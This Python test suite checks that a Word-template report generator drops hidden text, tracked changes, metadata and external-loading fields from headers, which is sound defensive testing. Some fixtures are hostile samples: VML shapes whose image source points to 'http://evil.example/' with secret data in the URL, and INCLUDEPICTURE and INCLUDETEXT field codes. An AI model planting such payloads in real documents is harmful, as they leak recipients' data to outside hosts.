"""A Word template's visible header gets into the report, and nothing that Word only stores."""

import io
from typing import Any

import pytest
from docx import Document
from docx.document import Document as WordDocument
from docx.enum.style import WD_STYLE_TYPE
from docx.opc.constants import RELATIONSHIP_TYPE
from docx.opc.packuri import PackURI
from docx.opc.part import Part
from docx.oxml import parse_xml
from docx.oxml.ns import nsdecls, qn

from polling.report.document_blocks import Document as ReportDocument
from polling.report.formats.word import docx, is_template
from tests.attacks.hostile_files import parts
from tests.pictures import png, png_chunk
from tests.report.conftest import MOMENT
from tests.report.formats.test_word import saved
from tests.word_file import opened

SPACES = (
    f'{nsdecls("w", "r", "a", "wp")} xmlns:v="urn:schemas-microsoft-com:vml" '
    'xmlns:o="urn:schemas-microsoft-com:office:office"'
)
SECRET = "Jane Doe"
AUTHOR = f'w:id="1" w:author="{SECRET}" w:date="2024-01-01T00:00:00Z"'
HIDDEN = {
    "deleted": f"<w:del {AUTHOR}><w:r><w:delText>{SECRET}</w:delText></w:r></w:del>",
    "moved away": f"<w:moveFrom {AUTHOR}><w:r><w:t>{SECRET}</w:t></w:r></w:moveFrom>",
    "hidden": f"<w:r><w:rPr><w:vanish/></w:rPr><w:t>{SECRET}</w:t></w:r>",
    "hidden by its style": '<w:r><w:rPr><w:rStyle w:val="Below"/></w:rPr>'
    f"<w:t>{SECRET}</w:t></w:r>",
    "hidden shape": f'<w:r><w:drawing><wp:anchor><wp:docPr id="1" name="{SECRET}" hidden="1"/>'
    "</wp:anchor></w:drawing></w:r>",
    "hidden VML": f'<w:r><w:pict><v:shape style="width:9pt;visibility:hidden" alt="{SECRET}"/>'
    "</w:pict></w:r>",
    "form data": "<w:sdt><w:sdtPr><w:comboBox>"
    f'<w:listItem w:displayText="{SECRET}" w:value="1"/></w:comboBox></w:sdtPr>'
    "<w:sdtContent><w:r><w:t>kept</w:t></w:r></w:sdtContent></w:sdt>",
    "field data": '<w:r><w:fldChar w:fldCharType="begin">'
    f'<w:ffData><w:name w:val="{SECRET}"/></w:ffData></w:fldChar>'
    '<w:instrText>PAGE</w:instrText><w:fldChar w:fldCharType="end"/></w:r>',
    "code of a field": '<w:r><w:fldChar w:fldCharType="begin"/>'
    f'<w:instrText>DOCVARIABLE "{SECRET}"</w:instrText><w:fldChar w:fldCharType="separate"/>'
    '<w:t>kept</w:t><w:fldChar w:fldCharType="end"/></w:r>',
    "comment": f"<!-- {SECRET} -->",
}
SHOWN = {
    "inserted": f"<w:ins {AUTHOR}><w:r><w:t>kept</w:t></w:r></w:ins>",
    "moved here": f"<w:moveTo {AUTHOR}><w:r><w:t>kept</w:t></w:r></w:moveTo>",
    "formatted anew": f"<w:r><w:rPr><w:b/><w:rPrChange {AUTHOR}><w:rPr/></w:rPrChange></w:rPr>"
    "<w:t>kept</w:t></w:r>",
    "not hidden": '<w:r><w:rPr><w:rStyle w:val="Below"/><w:vanish w:val="0"/></w:rPr>'
    "<w:t>kept</w:t></w:r>",
    "in a text box": "<w:r><w:pict><v:shape><v:textbox><w:txbxContent><w:p><w:r><w:t>kept</w:t>"
    "</w:r></w:p></w:txbxContent></v:textbox></v:shape></w:pict></w:r>",
    "in a field": f'<w:fldSimple w:instr=" DOCPROPERTY {SECRET} "><w:r><w:t>kept</w:t></w:r>'
    "</w:fldSimple>",
    "in a smart tag": '<w:smartTag w:element="place"><w:r><w:t>kept</w:t></w:r></w:smartTag>',
    "in a control": f'<w:sdt><w:sdtPr><w:alias w:val="{SECRET}"/></w:sdtPr><w:sdtContent>'
    "<w:r><w:t>kept</w:t></w:r></w:sdtContent></w:sdt>",
}


def with_header(content: str) -> WordDocument:
    """A template with this XML in the paragraph of its header."""
    word = Document()
    above = word.styles.add_style("Above", WD_STYLE_TYPE.CHARACTER)
    above.font.hidden = True
    word.styles.add_style("Below", WD_STYLE_TYPE.CHARACTER).base_style = above
    paragraph = word.sections[0].header.paragraphs[0]
    for one in parse_xml(f"<w:p {SPACES}>{content}</w:p>"):
        paragraph._p.append(one)
    return word


def reported(template: WordDocument) -> bytes:
    """A short report in this template."""
    assert is_template(saved(template))
    short = ReportDocument(
        "What next", "", "", "", language="en", accent="#000000", logo="", blocks=[]
    )
    return docx(short, MOMENT, saved(template))


def header(report: bytes) -> str:
    """All texts of the header."""
    element: Any = opened(report).sections[0].header._element
    return "".join(one.text or "" for one in element.iter(qn("w:t")))


def has_secret(report: bytes) -> bool:
    return SECRET.encode() in b"".join(parts(report).values())


@pytest.mark.parametrize("content", HIDDEN.values(), ids=HIDDEN)
def test_what_word_hides_is_left_out(content: str) -> None:
    report = reported(with_header(f"<w:r><w:t>Our letterhead</w:t></w:r>{content}"))
    assert header(report).removesuffix("kept") == "Our letterhead"
    assert not has_secret(report)


@pytest.mark.parametrize("content", SHOWN.values(), ids=SHOWN)
def test_what_word_displays_is_kept(content: str) -> None:
    report = reported(with_header(content))
    assert header(report) == "kept"
    assert not has_secret(report)


def test_deleted_rows_are_left_out() -> None:
    def row(text: str, mark: str = "") -> str:
        cell = f"<w:tc><w:tcPr/><w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:tc>"
        return f"<w:tr><w:trPr>{mark}</w:trPr>{cell}</w:tr>"

    word = with_header("<w:r><w:t>.</w:t></w:r>")
    rows = [row("kept"), row(SECRET, f"<w:del {AUTHOR}/>"), row(SECRET, "<w:hidden/>")]
    for those in (rows, rows[1:]):
        table = parse_xml(f"<w:tbl {SPACES}><w:tblPr/><w:tblGrid/>{''.join(those)}</w:tbl>")
        word.sections[0].header.paragraphs[0]._p.addprevious(table)
    report = reported(word)
    assert header(report) == "kept."
    assert len(opened(report).sections[0].header.tables) == 1


def test_a_control_bound_to_the_title_shows_that_of_the_report() -> None:
    binding = '<w:dataBinding w:xpath="/ns1:coreProperties[1]/ns0:{}[1]" w:storeItemID="{{6}}"/>'
    control = "<w:sdt><w:sdtPr>{}<w:text/></w:sdtPr><w:sdtContent/></w:sdt>"
    bound = [control.format(binding.format(name)) for name in ("title", "keywords")]
    element: Any = opened(reported(with_header("".join(bound)))).sections[0].header._element
    found = [one.get(qn("w:xpath")) for one in element.iter(qn("w:dataBinding"))]
    assert found == ["/ns1:coreProperties[1]/ns0:title[1]"]


@pytest.mark.parametrize("attribute", ["src", "o:href", "o:althref"])
@pytest.mark.parametrize("shape", ["imagedata", "fill"])
def test_a_shape_loads_nothing(shape: str, attribute: str) -> None:
    content = f'<v:shape><v:{shape} {attribute}="http://evil.example/{SECRET}"/></v:shape>'
    assert not has_secret(reported(with_header(f"<w:r><w:pict>{content}</w:pict></w:r>")))


@pytest.mark.parametrize("kind", ["begin", "separate", "end"])
def test_a_field_without_its_beginning_or_end_is_refused(kind: str) -> None:
    assert not is_template(saved(with_header(f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>')))


def field(code: str, shown: str = "kept") -> str:
    """A field in a header, whose code is XML."""
    begin, middle, end = (
        f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "separate", "end")
    )
    return f"{begin}{code}{middle}<w:r><w:t>{shown}</w:t></w:r>{end}"


def code(text: str, tag: str = "instrText") -> str:
    return f"<w:r><w:{tag}>{text}</w:{tag}></w:r>"


LOADING = {
    "plain": code("INCLUDEPICTURE x"),
    "small": code(" includetext x"),
    "in two texts": code("INCLUDE") + code("PICTURE x"),
    "as a text": code("INCLUDEPICTURE x", "t"),
    "nested first": field(code("QUOTE 68"), "INCLUDEPICTURE") + code("PAGE"),
    "in another": code("IF 1 = 1 ") + field(code("INCLUDEPICTURE x")),
}


@pytest.mark.parametrize("loading", LOADING.values(), ids=LOADING)
def test_of_a_field_that_loads_something_only_the_text_is_kept(loading: str) -> None:
    report = reported(with_header(field(loading)))
    assert header(report).endswith("kept")
    element: Any = opened(report).sections[0].header._element
    codes = "".join(one.text for one in element.iter(qn("w:instrText")))
    assert "INCLUDE" not in codes.upper()


def test_pages_are_counted() -> None:
    nested = code("IF ") + field(code("PAGE")) + code(" = 1")
    word = with_header(field(code(" PAGE ")) + field(nested))
    element: Any = opened(reported(word)).sections[0].header._element
    found = [one.text for one in element.iter(qn("w:instrText"))]
    assert found == [" PAGE ", "IF ", "PAGE", " = 1"]


def test_headers_of_pages_that_do_not_differ_are_left_out() -> None:
    word = Document()
    section = word.sections[0]
    section.header.paragraphs[0].text = "Our letterhead"
    section.first_page_header.paragraphs[0].text = SECRET
    section.even_page_footer.paragraphs[0].text = SECRET
    report = reported(word)
    assert header(report) == "Our letterhead"
    assert not has_secret(report)
    section.different_first_page_header_footer = True
    word.settings.odd_and_even_pages_header_footer = True
    displayed = opened(reported(word)).sections[0]
    assert displayed.first_page_header.paragraphs[0].text == SECRET
    assert displayed.even_page_footer.paragraphs[0].text == SECRET


def test_a_header_of_an_earlier_section_is_left_out() -> None:
    word = Document()
    word.sections[0].header.paragraphs[0].text = SECRET
    last = word.add_section()
    last.header.is_linked_to_previous = False
    last.header.paragraphs[0].text = "Our letterhead"
    report = reported(word)
    assert header(report) == "Our letterhead"
    assert not has_secret(report)


def test_a_header_that_the_last_section_has_from_an_earlier_one_is_kept() -> None:
    word = Document()
    for text in ("Of the cover", "Our letterhead"):
        header_of_section = word.sections[-1].header
        header_of_section.is_linked_to_previous = False
        header_of_section.paragraphs[0].text = text
        word.add_section()
    assert header(reported(word)) == "Our letterhead"


def test_notes_and_variables_are_left_out() -> None:
    word = Document()
    kind = "application/vnd.openxmlformats-officedocument.wordprocessingml.footnotes+xml"
    notes = f"<w:footnotes {SPACES}>{SECRET}</w:footnotes>".encode()
    part = Part(PackURI("/word/footnotes.xml"), kind, notes, word.part.package)
    word.part.relate_to(part, RELATIONSHIP_TYPE.FOOTNOTES)
    variables = f'<w:docVars {SPACES}><w:docVar w:name="a" w:val="{SECRET}"/></w:docVars>'
    word.settings.element.append(parse_xml(variables))
    assert not has_secret(reported(word))


def test_properties_are_those_of_the_report() -> None:
    word = Document()
    about = word.core_properties
    about.title = about.author = about.last_modified_by = about.keywords = SECRET
    about.category = about.content_status = about.identifier = about.version = SECRET
    (app,) = (one for one in word.part.package.iter_parts() if one.partname == "/docProps/app.xml")
    app._blob = app.blob.replace(b"<Company/>", f"<Company>{SECRET}</Company>".encode())
    assert SECRET.encode() in app.blob
    report = reported(word)
    assert not has_secret(report)
    found = opened(report).core_properties
    assert (found.title, found.last_modified_by) == ("What next", "")


def test_pictures_have_no_metadata() -> None:
    word = Document()
    exif = png(2, 2, png_chunk(b"eXIf", SECRET.encode()))
    header = word.sections[0].header
    header.paragraphs[0].add_run().add_picture(io.BytesIO(exif))
    report = reported(word)
    assert len(opened(report).sections[0].header._element.xpath(".//pic:pic")) == 1
    assert not has_secret(report)


def test_a_deleted_picture_is_left_out() -> None:
    word = Document()
    header = word.sections[0].header
    run = header.paragraphs[0].add_run()
    picture = png(2, 2)
    run.add_picture(io.BytesIO(picture))
    deletion = parse_xml(f"<w:del {SPACES} {AUTHOR}/>")
    run._r.addprevious(deletion)
    deletion.append(run._r)
    assert not [name for name in parts(reported(word)) if name.endswith(".png")]
